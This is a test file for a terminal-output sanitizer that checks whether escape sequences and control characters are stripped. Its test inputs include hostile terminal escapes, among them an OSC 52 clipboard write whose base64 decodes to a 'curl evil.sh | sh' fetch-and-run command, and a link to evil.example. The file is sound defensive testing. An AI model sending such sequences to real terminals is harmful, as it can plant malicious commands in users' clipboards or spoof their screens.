import test from 'ava';
import {sanitizeForTerminal, toPlainText} from '../../source/infra/sanitize.js';

const escape = '\u001B';
const hostile: Array<[string, string]> = [
	['OSC 52 clipboard write (BEL)', `steal ${escape}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007done`],
	['OSC 52 clipboard write (ST)', `steal ${escape}]52;c;Y3VybA==${escape}\\done`],
	['window title', `${escape}]0;pwned${escape}\\title`],
	['hyperlink', `${escape}]8;;http://evil.example${escape}\\click${escape}]8;;${escape}\\`],
	['clear screen and home', `${escape}[2J${escape}[Hcleared`],
	['cursor up', `${escape}[10Aup`],
	['cursor position', `${escape}[5;10Hmoved`],
	['erase line', `${escape}[2Kerased`],
	['scroll region', `${escape}[1;5rregion`],
	['alternate screen', `${escape}[?1049hswitch`],
	['mouse tracking', `${escape}[?1000htrack`],
	['device status query', `${escape}[6nquery`],
	['8-bit CSI', '\u009B2Jc1'],
	['8-bit OSC', '\u009D0;title\u009Cc1'],
	['DCS', `${escape}Pq#0;2;0;0;0${escape}\\sixel`],
	['reset', `${escape}creset`],
	['bell and backspace', 'ding\u0007\u0008\u0008xx'],
	['carriage return overwrite', 'good\rEVIL'],
	['vertical tab and form feed', 'a\u000Bb\u000Cc'],
	['NUL', 'a\u0000b'],
	['DEL', 'a\u007Fb'],
];

for (const [name, text] of hostile) {
	test(`neutralises ${name}`, t => {
		const safe = sanitizeForTerminal(text);
		t.false(/[\u0000-\u0008\u000A-\u001F\u007F-\u009F]/.test(safe.replaceAll(/\u001B\[[\d;:]*m/g, '')), JSON.stringify(safe));
		const plain = toPlainText(text);
		t.false(/[\u0000-\u0008\u000A-\u001F\u007F-\u009F]/.test(plain), JSON.stringify(plain));
	});
}

test('SGR colour survives; everything else around it goes', t => {
	const text = `${escape}[31mred${escape}[0m ${escape}[1;38;5;208mbold orange${escape}[m${escape}[2Jx`;
	t.is(sanitizeForTerminal(text), `${escape}[31mred${escape}[0m ${escape}[1;38;5;208mbold orange${escape}[mx`);
	t.is(toPlainText(text), 'red bold orangex');
});

test('plain text, multi-byte text and long lines pass through untouched', t => {
	for (const text of ['GET /api/notes/ 200', 'ノート 📝 café e\u0301', 'x'.repeat(10_000)]) {
		t.is(sanitizeForTerminal(text), text);
	}
});

test('tabs become spaces to the next stop of 8', t => {
	t.is(sanitizeForTerminal('a\tb\tc'), 'a       b       c');
});
